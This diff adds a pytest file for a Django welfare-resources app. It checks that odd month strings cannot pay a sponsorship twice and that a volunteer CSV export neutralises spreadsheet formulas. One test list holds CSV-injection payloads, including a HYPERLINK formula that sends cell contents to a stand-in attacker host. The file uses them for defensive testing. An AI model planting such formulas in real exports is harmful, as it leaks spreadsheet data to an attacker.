@@ -1,0 +1,94 @@
+"""Hand-made requests against the resources pages, from the outside with the Django test client: amounts and months
+in other digits, formulas in what ends up in an export, and what a second send of the same form does."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+
+import pytest
+from django.urls import reverse
+
+from dolbom.resources.models import Allocation, Donation, Sponsorship
+from dolbom.resources.services import donations
+
+ON = date(2026, 11, 2)
+
+
+@pytest.fixture(autouse=True)
+def _today(settings):
+    settings.TODAY_OVERRIDE = ON
+
+
+@pytest.fixture
+def sponsored(ledger_city):
+    city = ledger_city
+    donations.start_sponsorship(
+        user=city.users["district_admin"],
+        donor_id=city.person_donor.pk,
+        household_id=city.households[1].pk,
+        monthly_won=100_000,
+        starts_on=date(2026, 10, 1),
+    )
+    return city
+
+
+@pytest.mark.parametrize(
+    "month",
+    [
+        "２０２６-11",  # full-width digits
+        "٢٠٢٦-١١",  # Arabic-Indic digits
+        "2026-11\n",
+        "2026-13",
+        "0000-01",
+        "2026-1",
+    ],
+)
+def test_a_month_in_other_digits_never_pays_a_sponsorship_twice(client, sponsored, month):
+    city = sponsored
+    client.force_login(city.users["district_manager"])
+    assert client.post(reverse("resources_sponsorships_pay"), {"month": "2026-11"}).status_code == 302
+    assert Allocation.objects.filter(sponsorship__isnull=False).count() == 1
+    response = client.post(reverse("resources_sponsorships_pay"), {"month": month})
+    assert response.status_code == 422
+    assert "2026-12" in response.content.decode()  # the Korean message says how to write the month
+    assert Allocation.objects.filter(sponsorship__isnull=False).count() == 1
+    assert Donation.objects.filter(donor=city.person_donor).count() == 1
+    assert set(Allocation.objects.values_list("month", flat=True)) == {"2026-11"}
+
+
+def test_a_sponsorship_month_is_paid_once_however_often_the_form_is_sent(client, sponsored):
+    city = sponsored
+    client.force_login(city.users["district_manager"])
+    for _ in range(3):
+        assert client.post(reverse("resources_sponsorships_pay"), {"month": "2026-10"}).status_code == 302
+    sponsorship = Sponsorship.objects.get()
+    assert sponsorship.payments.count() == 1
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "＝1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_1365_export_never_hands_a_spreadsheet_a_formula(client, ledger_city, formula):
+    city = ledger_city
+    client.force_login(city.users["dong_officer"])
+    response = client.post(reverse("resources_volunteer_new"), {
+        "name": formula, "phone": "", "dong": city.dongs[0].code, "skills": ["repairs"],
+        "availability": "", "portal_id": formula, "consent_on": "2026-10-01",
+    })  # fmt: skip
+    assert response.status_code == 302
+    from dolbom.resources.models import Volunteer
+
+    volunteer = Volunteer.objects.get()
+    response = client.post(reverse("resources_volunteer_hours", args=[volunteer.pk]),
+                           {"on": "2026-11-01", "minutes": "60", "activity": formula})  # fmt: skip
+    assert response.status_code == 302
+    response = client.post(reverse("resources_volunteer_export"), {"start": "2026-11-01", "end": "2026-11-30"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
+    for cell in rows[1]:
+        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), rows[1]
+    # The text is still there to read, behind the apostrophe spreadsheets hide.
+    assert rows[1][1].startswith("'") and formula.strip() in rows[1][1]
